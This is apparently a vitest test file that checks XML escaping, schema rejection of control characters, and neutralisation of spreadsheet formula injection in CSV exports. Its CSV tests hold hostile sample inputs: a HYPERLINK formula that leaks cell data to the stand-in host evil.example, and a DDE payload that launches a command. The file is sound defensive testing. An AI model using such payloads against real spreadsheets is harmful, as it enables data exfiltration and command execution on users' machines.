// The security probe's W10: control characters passed the content schemas and the escaping
// helpers, and the feed and the SVG came out as XML no parser accepts.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { escapeXml, notXml } from './xml.ts';
import { wellFormed } from '../charts/snapshot.ts';
import { esc } from '../charts/svg.ts';
import { csvCell } from '../charts/downloads.ts';
import { updateSchema } from '../collections/schemas.ts';

describe('escaping never emits what XML refuses', () => {
  it('drops C0 controls, lone surrogates and U+FFFE/FFFF, keeps tab, newline and text', () => {
    expect(escapeXml('a\u0001b\u000bc\u0000d\uFFFEe\uD800f\tg\nh')).toBe('abcdef\tg\nh');
    expect(esc('<x y="1">\u0008')).toBe('&lt;x y=&quot;1&quot;&gt;');
    expect(escapeXml("it's", '&apos;')).toBe('it&apos;s');
  });
  it('gives well-formed XML for any string at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const doc = `<svg xmlns="http://www.w3.org/2000/svg"><text data-x="${esc(text)}">${esc(text)}</text></svg>`;
        expect(wellFormed(doc)).toBe(true);
        expect(doc.match(notXml)).toBeNull();
      }),
      { numRuns: 500 },
    );
  });
});

describe('content refuses control characters, with the field', () => {
  const update = { date: '2026-03-01', type: 'update', chapters: ['treaty'], title: 'A title', body: 'A body.', sources: ['x'] };
  it.each([['\u0001'], ['\u000b'], ['\u007f'], ['\u0085']])('U+%s', (character) => {
    const result = updateSchema.safeParse({ ...update, body: `Text${character}more.` });
    expect(result.success).toBe(false);
    expect(result.error!.issues[0]!.path).toEqual(['body']);
    expect(result.error!.issues[0]!.message).toMatch(/^must not contain a control character \(U\+00[0-9A-F]{2} at character 5\)$/);
  });
  it('accepts ordinary text, Persian and Russian included', () => {
    expect(updateSchema.safeParse({ ...update, body: 'Договор — پیمان, 17 January 2025.' }).success).toBe(true);
  });
});

// The security probe's W9: a cell a spreadsheet reads as a formula went into the CSV as it was.
describe('CSV cells a spreadsheet could run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('%j is written as text', (value, cell) => expect(csvCell(value)).toBe(cell));
  it.each([
    ['-12.5', '-12.5'],
    [-3, '-3'],
    ['1990', '1990'],
    ['Kilo-class submarines', 'Kilo-class submarines'],
    ['a, b', '"a, b"'],
    ['say "no"', '"say ""no"""'],
  ])('%j is left as it is, quoted only where RFC 4180 needs it', (value, cell) => expect(csvCell(value)).toBe(cell));
});
